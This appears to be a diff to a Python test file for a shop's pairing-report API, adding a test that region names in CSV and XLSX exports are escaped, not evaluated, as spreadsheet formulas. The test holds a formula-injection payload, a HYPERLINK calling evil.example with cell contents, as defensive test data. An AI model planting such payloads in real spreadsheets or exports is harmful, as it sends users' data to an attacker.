@@ -20,7 +20,7 @@ from orders.ledger.models import LedgerAccount, LedgerTransaction, Posting
 from orders.ledger.reports import merge_villages
 from orders.models import Order, OrderLine
 from shop.db import db, utcnow
-from shop.regions.models import Pairing
+from shop.regions.models import Pairing, Region
 from shop.regions.service import valid_on
 from tests.orders.ledger.test_attribution import make_world, pay_pickup
 from tests.orders.payments.conftest import user_with_token
@@ -152,6 +152,21 @@ def test_the_pairing_report_as_csv_and_who_may_read_it(client, login):
     assert "25.00" in texts  # 2 units × ¥12.50 sold in each row
     assert any(text.startswith("计算于 ") and "，数据截至 20" in text for text in texts)
     assert client.get("/api/v1/reports/pairings?format=xml", headers=login("admin")).status_code == 422
+
+
+def test_names_in_the_csv_and_xlsx_reports_are_never_formulas(client, login):
+    _two_donors(client)
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
+    db.session.get(Region, "513431").name = formula
+    db.session.commit()
+
+    text = client.get("/api/v1/reports/pairings?format=csv", headers=login("admin")).get_data(as_text=True)
+    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff").split("\r\n\r\n")[0])))
+    assert {row["county_name"] for row in rows} == {"'" + formula}
+    workbook = client.get("/api/v1/reports/pairings?format=xlsx", headers=login("admin"))
+    sheet = load_workbook(io.BytesIO(workbook.data)).active
+    names = [sheet.cell(row=n, column=4) for n in (2, 3)]
+    assert [(cell.value, cell.data_type) for cell in names] == [(formula, "s"), (formula, "s")]
 
 
 @pytest.mark.parametrize("villages,shown,other", [
